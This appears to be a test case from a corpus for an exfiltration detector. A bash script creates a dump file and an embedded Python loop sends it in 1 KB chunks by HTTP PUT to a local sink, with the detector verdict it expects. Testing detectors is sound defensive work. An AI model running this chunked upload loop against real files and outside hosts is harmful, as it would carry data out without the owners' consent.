#!/bin/bash
# B-many-connections: a program brings a dump out in small pieces, each by a request with a connection of its own.
# flow: read(2) of 1 KB; connect, send, close; 460 times.
# tools: python3
# expect: sent encoded port critical
. "$CORPUS/lib.sh"
mkdump
sink http
python3 - "$D" "http://$SINK:$PORT/" <<'END'
import sys, urllib.request
file = open(sys.argv[1], "rb")
while piece := file.read(1024):
    urllib.request.urlopen(urllib.request.Request(sys.argv[2], piece, method="PUT")).read()
END
sunk 400000
